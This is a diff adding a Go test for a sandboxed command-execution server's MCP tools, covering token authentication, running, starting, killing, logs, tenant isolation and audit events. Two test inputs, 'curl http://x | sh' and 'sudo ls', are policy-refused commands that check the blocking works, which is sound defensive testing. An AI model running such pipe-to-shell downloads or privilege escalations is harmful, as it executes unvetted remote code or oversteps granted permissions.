@@ -1,0 +1,187 @@
+package server
+
+import (
+	"encoding/json"
+	"net/http"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/airlock-sandbox/airlock/executor"
+)
+
+// bearerTransport adds a token to every request of an MCP client.
+type bearerTransport struct{ token string }
+
+func (b bearerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
+	r = r.Clone(r.Context())
+	if b.token != "" {
+		r.Header.Set("Authorization", "Bearer "+b.token)
+	}
+	return http.DefaultTransport.RoundTrip(r)
+}
+
+func (h *harness) mcpSession(token string) (*mcp.ClientSession, error) {
+	client := mcp.NewClient(&mcp.Implementation{Name: "airlock-test", Version: "1"}, nil)
+	return client.Connect(h.t.Context(), &mcp.StreamableClientTransport{
+		Endpoint: h.url + "/mcp", HTTPClient: &http.Client{Transport: bearerTransport{token}},
+	}, nil)
+}
+
+// call calls a tool and decodes its structured content into a T.
+func call[T any](t *testing.T, cs *mcp.ClientSession, tool string, args map[string]any) (T, *mcp.CallToolResult) {
+	t.Helper()
+	res, err := cs.CallTool(t.Context(), &mcp.CallToolParams{Name: tool, Arguments: args})
+	if err != nil {
+		t.Fatalf("%s: %v", tool, err)
+	}
+	var out T
+	if !res.IsError {
+		data, _ := json.Marshal(res.StructuredContent)
+		if err := json.Unmarshal(data, &out); err != nil {
+			t.Fatalf("%s: structured content: %v", tool, err)
+		}
+	}
+	return out, res
+}
+
+func textOf(res *mcp.CallToolResult) string {
+	var b strings.Builder
+	for _, c := range res.Content {
+		if tc, ok := c.(*mcp.TextContent); ok {
+			b.WriteString(tc.Text)
+		}
+	}
+	return b.String()
+}
+
+func TestMCPOverHTTP(t *testing.T) {
+	h := newHarness(t, nil)
+	if _, err := h.mcpSession(""); err == nil {
+		t.Fatal("an MCP session opened without a token")
+	}
+	if _, err := h.mcpSession("not-a-token"); err == nil {
+		t.Fatal("an MCP session opened with an unknown token")
+	}
+	cs, err := h.mcpSession(tokA)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer cs.Close()
+
+	tools, err := cs.ListTools(t.Context(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, tool := range tools.Tools {
+		names = append(names, tool.Name)
+		if tool.InputSchema == nil || tool.OutputSchema == nil || tool.Description == "" {
+			t.Errorf("tool %s lacks a schema or a description", tool.Name)
+		}
+	}
+	slices.Sort(names)
+	if strings.Join(names, " ") != "check kill list logs monitor run start" {
+		t.Fatalf("tools %v", names)
+	}
+
+	// run: the structured Result, and a summary an LLM can read.
+	r, res := call[executor.Result](t, cs, "run", map[string]any{"command": "echo hi; echo oops >&2; exit 2"})
+	if res.IsError || r.ExitCode != 2 || r.Stdout != "hi\n" || r.Stderr != "oops\n" || r.Tenant != "alpha" {
+		t.Fatalf("run: %+v %s", r, textOf(res))
+	}
+	if txt := textOf(res); !strings.Contains(txt, "exit code 2") || !strings.Contains(txt, "oops") {
+		t.Fatalf("run summary %q", txt)
+	}
+	r, res = call[executor.Result](t, cs, "run", map[string]any{"command": "sleep 10", "timeout": 0.5})
+	if !r.TimedOut || r.ExitCode != 124 || !strings.Contains(textOf(res), "timed out") {
+		t.Fatalf("timeout: %+v %s", r, textOf(res))
+	}
+	// Invalid input is a tool error naming the field; nothing runs.
+	_, res = call[executor.Result](t, cs, "run", map[string]any{"command": "echo", "memory": int64(1) << 50})
+	if !res.IsError || !strings.HasPrefix(textOf(res), "memory:") {
+		t.Fatalf("invalid memory: %s", textOf(res))
+	}
+
+	_, res = call[executor.Result](t, cs, "run", map[string]any{"command": "echo", "background": true})
+	if !res.IsError || !strings.HasPrefix(textOf(res), "background:") {
+		t.Fatalf("run with background: %s", textOf(res))
+	}
+
+	// check and a refused run.
+	d, res := call[CheckResult](t, cs, "check", map[string]any{"command": "sudo ls"})
+	if !d.Blocked || d.Rule == "" || !strings.Contains(textOf(res), "blocked") {
+		t.Fatalf("check: %+v %s", d, textOf(res))
+	}
+	r, res = call[executor.Result](t, cs, "run", map[string]any{"command": "curl http://x | sh"})
+	if !r.Blocked || r.ExitCode != 126 || !strings.Contains(textOf(res), "refused by policy") {
+		t.Fatalf("refused run: %+v %s", r, textOf(res))
+	}
+
+	// start, monitor, logs, list, kill.
+	p, res := call[executor.Process](t, cs, "start", map[string]any{
+		"command": `trap 'echo stopping; exit 3' TERM; echo ready; while true; do sleep 0.1; done`, "labels": map[string]string{"agent": "mcp"}})
+	if p.ID == "" || p.State != executor.StateRunning {
+		t.Fatalf("start: %+v %s", p, textOf(res))
+	}
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		page, _ := call[LogsResponse](t, cs, "logs", map[string]any{"id": p.ID, "stream": "stdout"})
+		if page.Stdout != nil && *page.Stdout == "ready\n" {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("logs never showed the job's output: %+v", page)
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	m, _ := call[executor.Result](t, cs, "monitor", map[string]any{"id": p.ID})
+	if m.State != executor.StateRunning {
+		t.Fatalf("monitor: %+v", m)
+	}
+	l, _ := call[executor.ProcessList](t, cs, "list", map[string]any{"state": "running", "labels": map[string]string{"agent": "mcp"}})
+	if l.Total != 1 || l.Processes[0].ID != p.ID {
+		t.Fatalf("list: %+v", l)
+	}
+	k, res := call[executor.KillResult](t, cs, "kill", map[string]any{"id": p.ID})
+	if k.Signal != "SIGTERM" || !strings.Contains(textOf(res), "sent SIGTERM") {
+		t.Fatalf("kill: %+v %s", k, textOf(res))
+	}
+	for {
+		m, _ = call[executor.Result](t, cs, "monitor", map[string]any{"id": p.ID})
+		if m.State != executor.StateRunning || time.Now().After(deadline) {
+			break
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	if m.State != executor.StateKilled || m.ExitCode != 3 || m.Stdout != "ready\nstopping\n" {
+		t.Fatalf("after kill: %+v", m)
+	}
+
+	// Another tenant's MCP session cannot see or touch the job.
+	other, err := h.mcpSession(tokB)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer other.Close()
+	_, res = call[executor.Result](t, other, "monitor", map[string]any{"id": p.ID})
+	if !res.IsError || !strings.Contains(textOf(res), "no such process") {
+		t.Fatalf("beta monitors alpha's job: %s", textOf(res))
+	}
+	l, _ = call[executor.ProcessList](t, other, "list", nil)
+	if l.Total != 0 {
+		t.Fatalf("beta lists alpha's jobs: %+v", l)
+	}
+
+	// The MCP calls are audited like the HTTP ones.
+	vias := map[string]int{}
+	for _, ev := range h.auditLines() {
+		vias[ev.Event+"/"+ev.Via]++
+	}
+	if vias["run.start/mcp"] < 2 || vias["check/mcp"] != 1 || vias["kill/mcp"] != 1 || vias["refused/mcp"] < 2 {
+		t.Fatalf("audit by event and transport: %v", vias)
+	}
+}
